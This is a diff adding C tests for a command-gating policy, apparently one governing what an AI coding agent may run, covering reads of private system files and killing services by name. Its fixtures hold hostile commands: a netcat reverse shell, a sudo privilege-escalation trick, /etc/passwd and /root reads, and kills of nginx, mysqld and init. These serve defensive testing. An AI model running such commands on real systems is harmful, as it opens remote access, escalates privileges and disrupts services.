@@ -520,3 +520,65 @@ Test(families, reconnaissance_is_an_administrators_work)
 	cr_expect(refused(run(admin, "bash", "command", "nc 192.0.2.10 9001 -e /bin/bash")));
 	cr_expect(refused(run(admin, "bash", "command", "sudo -u#-1 /bin/bash")));
 }
+
+/* ---- private system files and directories, and services killed by name -- */
+
+static const char *const private_reads[] = {
+	"file_name='/etc/security/group.conf'\ncontent=$(cat \"$file_name\")\necho \"$content\"",
+	"f=/var/lib/pam; cat \"$f/session\"",
+	"cat /root/.profile",
+	"d=/usr/share; head -n 50 \"$d/base-passwd/passwd.master\"",
+	"cat /etc/passwd /etc/group",
+	"strings /proc/1/mountinfo",
+	"cd /sys/kernel && cat vmcoreinfo",
+	"ls -la /root/",
+	"for f in $(ls /etc/security/); do echo $f; done",
+	"dir=/proc/1; ls $dir",
+};
+
+Test(families, private_system_files_are_held_for_a_coder)
+{
+	each(private_reads, sizeof(private_reads) / sizeof(private_reads[0]), 1);
+	ALLOW_ALL(
+		"cut -d: -f1 /etc/group",
+		"grep '^core id' /proc/cpuinfo | sort -u | wc -l",
+		"cat /etc/os-release",
+		"ls /usr/bin | more",
+		"cat ./etc/passwd.sample",
+		"ls -la /etc/nginx/sites-enabled",
+		"tail -f /var/log/syslog");
+	cr_expect_eq(PY("file_name = '/etc/security/limits.conf'\nwith open(file_name) as f:\n"
+			"    print(f.read())\n"), AGATE_ENFORCE_REVIEW);
+	cr_expect_eq(PY("import glob\nfor n in glob.glob('/root/*'):\n    print(n)\n"),
+		     AGATE_ENFORCE_REVIEW);
+	cr_expect_eq(PY("import os\nbase = '/usr'\nprint(os.listdir(os.path.join(base, '../var/log')))\n"),
+		     AGATE_ENFORCE_REVIEW);
+	cr_expect_eq(PY("from pathlib import Path\nprint((Path('/proc') / '1' / 'mountinfo').read_text())\n"),
+		     AGATE_ENFORCE_REVIEW);
+	cr_expect_eq(PY("import glob\nprint(glob.glob('/usr/share/doc/*'))\n"), AGATE_ENFORCE_ALLOW);
+	cr_expect_eq(PY("print(open('/proc/meminfo').read())\n"), AGATE_ENFORCE_ALLOW);
+	for (size_t i = 0; i < sizeof(private_reads) / sizeof(private_reads[0]); i++)
+		cr_expect_eq(run(admin, "bash", "command", private_reads[i]), AGATE_ENFORCE_ALLOW,
+			     "an administrator may: %s", private_reads[i]);
+}
+
+Test(families, killing_services_by_name)
+{
+	BLOCK_ALL(
+		"killall nginx",
+		"pkill -9 mysqld",
+		"kill_all() { for pid in $(ps -eo pid,cmd | grep 'Xorg' | awk '{print $1}'); do kill $pid; done; }; kill_all",
+		"for pid in $(ps -eo pid,comm | awk '/lightdm/ {print $1}'); do kill \"$pid\"; done",
+		"ps -eo pid,cmd | while read pid cmd; do [[ \"$cmd\" == *\"init\"* ]] && kill -9 $pid; done");
+	ALLOW_ALL(
+		"kill -HUP $(cat /var/run/nginx.pid)",
+		"systemctl restart nginx",
+		"pgrep -a postgres",
+		"git init && kill %1");
+	cr_expect(refused(PY("import psutil\nfor proc in psutil.process_iter(['cmdline']):\n"
+			     "    if 'redis-server' in ' '.join(proc.info['cmdline'] or []):\n"
+			     "        proc.kill()\n")));
+	cr_expect_eq(PY("import psutil\nfor proc in psutil.process_iter(['name']):\n"
+			"    if proc.info['name'] == 'worker.py':\n        proc.terminate()\n"),
+		     AGATE_ENFORCE_ALLOW);
+}
